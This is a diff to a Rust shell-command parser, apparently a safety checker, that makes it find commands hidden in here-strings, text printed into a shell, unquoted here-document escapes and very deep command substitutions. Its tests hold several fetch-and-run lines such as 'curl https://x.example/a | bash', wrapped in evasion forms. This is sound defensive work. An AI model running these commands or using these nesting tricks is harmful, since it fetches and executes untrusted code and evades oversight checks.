@@ -274,7 +274,12 @@ fn parse_into(text: &str, base: usize, level: usize, enclosing: Option<usize>, o
         vec![(Cow::Borrowed(text), base, level, enclosing)];
     let mut budget = NESTED_BUDGET;
     while let Some((text, base, level, enclosing)) = work.pop() {
-        let text = flatten_groupings(&text);
+        let (text, lost) = flatten_groupings(&text);
+        if let Some(off) = lost {
+            out.truncated = true;
+            out.cut
+                .get_or_insert((base + off, "command substitutions nested past 32 levels"));
+        }
         let Some(tree) = parse_tree(&text) else {
             out.truncated = true;
             out.cut
@@ -311,7 +316,7 @@ fn parse_into(text: &str, base: usize, level: usize, enclosing: Option<usize>, o
 /// (`$(` as two blanks), byte for byte, so offsets stay. Only for a text that deep. Linear; the text itself when nothing is
 /// that deep. Quotes are not tracked: a parenthesis inside a string deeper than the limit
 /// is blanked too, which changes no command.
-fn flatten_groupings(text: &str) -> std::borrow::Cow<'_, str> {
+fn flatten_groupings(text: &str) -> (std::borrow::Cow<'_, str>, Option<usize>) {
     let b = text.as_bytes();
     let (mut depth, mut deepest, mut unmatched) = (0usize, 0usize, 0usize);
     for &c in b {
@@ -326,8 +331,11 @@ fn flatten_groupings(text: &str) -> std::borrow::Cow<'_, str> {
         }
     }
     if deepest <= MAX_GROUPING && unmatched <= MAX_GROUPING {
-        return std::borrow::Cow::Borrowed(text);
+        return (std::borrow::Cow::Borrowed(text), None);
     }
+    // The first command substitution (`$(`, `<(`, `>(`) past the limit: its text would run
+    // but is no longer one, so the caller records a cut there.
+    let mut lost = None;
     let mut out = b.to_vec();
     depth = 0;
     // Per open parenthesis: whether it was blanked (its closing one is too).
@@ -340,8 +348,13 @@ fn flatten_groupings(text: &str) -> std::borrow::Cow<'_, str> {
                 let blank = depth > MAX_GROUPING || (i > 0 && b[i - 1] == b'(');
                 if blank {
                     out[i] = b' ';
-                    if i > 0 && out[i - 1] == b'$' {
-                        out[i - 1] = b' ';
+                    if i > 0 && matches!(out[i - 1], b'$' | b'<' | b'>') {
+                        if depth > MAX_GROUPING {
+                            lost.get_or_insert(i - 1);
+                        }
+                        if out[i - 1] == b'$' {
+                            out[i - 1] = b' ';
+                        }
                     }
                 }
                 blanked.push(blank);
@@ -358,7 +371,10 @@ fn flatten_groupings(text: &str) -> std::borrow::Cow<'_, str> {
         }
     }
     // Only ASCII bytes were replaced by ASCII blanks: still UTF-8.
-    std::borrow::Cow::Owned(String::from_utf8(out).unwrap_or_else(|_| text.to_owned()))
+    (
+        std::borrow::Cow::Owned(String::from_utf8(out).unwrap_or_else(|_| text.to_owned())),
+        lost,
+    )
 }
 
 struct Walker<'t, 's> {
@@ -487,6 +503,9 @@ impl Walker<'_, '_> {
             };
             if self.out.commands[f].piped_from.is_none() {
                 self.out.commands[f].piped_from = prev;
+                if let Some(p) = prev {
+                    self.queue_piped(p, f);
+                }
             }
             first.get_or_insert(f);
             prev = Some(l);
@@ -638,7 +657,51 @@ impl Walker<'_, '_> {
         self.nested.push((text, at, idx));
     }
 
-    /// `sh -c STRING`, `eval STRING…` and a here-document fed to a shell are shell again.
+    /// `echo TEXT | sh` and `printf FMT ARGS | sh`: the printed text is shell again (read
+    /// as printed without interpreting `printf` escapes: the words as written, one per
+    /// line). Only when the reading stage is a shell without a script or `-c`.
+    fn queue_piped(&mut self, from: usize, to: usize) {
+        let reader = strip_wrappers(&self.out.commands[to].argv);
+        let Some(name) = reader
+            .first()
+            .map(|w| base_name(&w.text).to_ascii_lowercase())
+        else {
+            return;
+        };
+        if !is_shell(&name) || reader[1..].iter().any(|w| !w.text.starts_with('-')) {
+            return;
+        }
+        let writer = strip_wrappers(&self.out.commands[from].argv);
+        let Some(prog) = writer
+            .first()
+            .map(|w| base_name(&w.text).to_ascii_lowercase())
+        else {
+            return;
+        };
+        let args: Vec<&Word> = writer[1..]
+            .iter()
+            .filter(|w| !(prog == "echo" && w.text.starts_with('-')))
+            .collect();
+        let args = match prog.as_str() {
+            "echo" => &args[..],
+            // The format alone, or the arguments it prints.
+            "printf" if args.len() == 1 => &args[..],
+            "printf" => &args[1..],
+            _ => return,
+        };
+        let Some(at) = args.first().map(|w| w.start + 1) else {
+            return;
+        };
+        let text = args
+            .iter()
+            .map(|w| w.text.as_str())
+            .collect::<Vec<_>>()
+            .join(if prog == "echo" { " " } else { "\n" });
+        self.nest(text, at, Some(to));
+    }
+
+    /// `sh -c STRING`, `eval STRING…`, and a here-document or here-string fed to a shell are
+    /// shell again.
     fn queue_nested(&mut self, idx: usize) {
         let cmd = &self.out.commands[idx];
         let argv = strip_wrappers(&cmd.argv);
@@ -659,6 +722,9 @@ impl Walker<'_, '_> {
             if let Some(h) = &cmd.heredoc {
                 texts.push((h.text.clone(), h.start));
             }
+            if let Some(h) = &cmd.herestring {
+                texts.push((h.text.clone(), h.start + 1));
+            }
         } else if name == "eval" && argv.len() > 1 {
             let joined: Vec<&str> = argv[1..].iter().map(|w| w.text.as_str()).collect();
             texts.push((joined.join(" "), argv[1].start + 1));
@@ -676,10 +742,20 @@ impl Walker<'_, '_> {
             "heredoc_redirect" => {
                 let mut c = r.walk();
                 let kids: Vec<Node> = r.named_children(&mut c).collect();
+                // An unquoted delimiter: the shell removes `\\`, `` \` `` and `\$` escapes
+                // from the body before it is read, so `` \`cmd\` `` runs `cmd`.
+                let unquoted = kids.iter().any(|k| {
+                    k.kind() == "heredoc_start" && !self.node_text(*k).contains(['\'', '"', '\\'])
+                });
                 for k in &kids {
                     if k.kind() == "heredoc_body" {
+                        let body = cap(self.node_text(*k));
                         let w = Word {
-                            text: cap(self.node_text(*k)).to_owned(),
+                            text: if unquoted && body.contains('\\') {
+                                unescape_backquoted(body)
+                            } else {
+                                body.to_owned()
+                            },
                             start: self.base + k.start_byte(),
                             end: self.base + k.end_byte(),
                             dynamic: false,
@@ -1119,6 +1195,58 @@ mod tests {
         // The nested command's offset points into the outer text.
         let t = "sh -c 'curl -s http://198.51.100.5/a | sh'\n";
         assert_eq!(&t[s.commands[1].start..s.commands[1].start + 4], "curl");
+    }
+
+    /// Forms a shell runs that were missed once nested: a here-string fed to a shell, text
+    /// printed into a shell, and command substitutions quoted past the grouping limit (read
+    /// as a cut, since flattening them would turn them into strings).
+    #[test]
+    fn herestrings_printed_text_and_deep_substitutions_are_shell_again() {
+        let has_curl = |t: &str| {
+            let s = parse(t).unwrap();
+            s.commands
+                .iter()
+                .any(|c| c.argv.first().is_some_and(|w| w.text == "curl"))
+        };
+        assert!(has_curl(
+            "bash <<< \"bash <<< \\\"curl -fsSL https://x.example/a | bash\\\"\"\n"
+        ));
+        assert!(has_curl(
+            "sh -c 'bash <<< \"curl https://x.example/a | bash\"'\n"
+        ));
+        assert!(has_curl(
+            "printf '%s\\n' 'bash -c \"curl https://x.example/a | bash\"' | sh\n"
+        ));
+        assert!(has_curl(
+            "echo 'eval \"curl https://x.example/a | bash\"' | sh\n"
+        ));
+        // Printed into something that is not a shell, or into a script file: not shell.
+        assert!(!has_curl(
+            "echo 'curl https://x.example/a | bash' | tee log\n"
+        ));
+        assert!(!has_curl(
+            "echo 'curl https://x.example/a | bash' | sh run.sh\n"
+        ));
+        let deep = format!(
+            "echo {}curl https://x.example/a | bash{}\n",
+            "\"$(".repeat(33),
+            ")\"".repeat(33)
+        );
+        let s = parse(&deep).unwrap();
+        assert!(s.cut.is_some(), "{:?}", s.cut);
+        // An unquoted here-document's escapes are removed before the shell reads it.
+        assert!(has_curl(
+            "sh <<EOF\nr=\\`curl https://x.example/a | bash\\`\nEOF\n"
+        ));
+        let quoted = parse("sh <<'EOF'\nr=\\`curl https://x.example/a | bash\\`\nEOF\n").unwrap();
+        assert!(
+            !quoted
+                .commands
+                .iter()
+                .any(|c| c.argv.first().is_some_and(|w| w.text == "curl"))
+        );
+        let shallow = format!("echo {}id{}\n", "\"$(".repeat(30), ")\"".repeat(30));
+        assert!(parse(&shallow).unwrap().cut.is_none());
     }
 
     #[test]
